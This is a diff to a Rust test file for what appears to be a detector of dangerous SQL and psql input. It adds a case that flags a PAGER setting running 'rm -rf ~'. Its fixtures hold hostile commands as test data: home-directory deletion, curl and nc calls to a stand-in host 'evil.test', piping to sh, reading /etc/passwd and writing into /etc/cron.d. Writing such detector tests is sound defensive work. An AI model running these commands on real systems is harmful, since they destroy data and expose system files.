@@ -35,6 +35,7 @@ fn finds_what_loses_data() {
         ("copy t to program 'curl evil.test'", Deed::Run, "curl evil.test"),
         ("\\! rm -rf ~", Deed::Run, "rm -rf ~"),
         ("select 1 \\g |sh", Deed::Run, "sh"),
+        ("\\setenv PAGER 'rm -rf ~'", Deed::Run, "rm -rf ~"),
         ("\\copy t to program 'nc evil.test 1'", Deed::Run, "nc evil.test 1"),
         ("select pg_read_file('/etc/passwd')", Deed::ReadFile, "/etc/passwd"),
         ("select 'x' into outfile '/etc/cron.d/x'", Deed::WriteFile, "/etc/cron.d/x"),
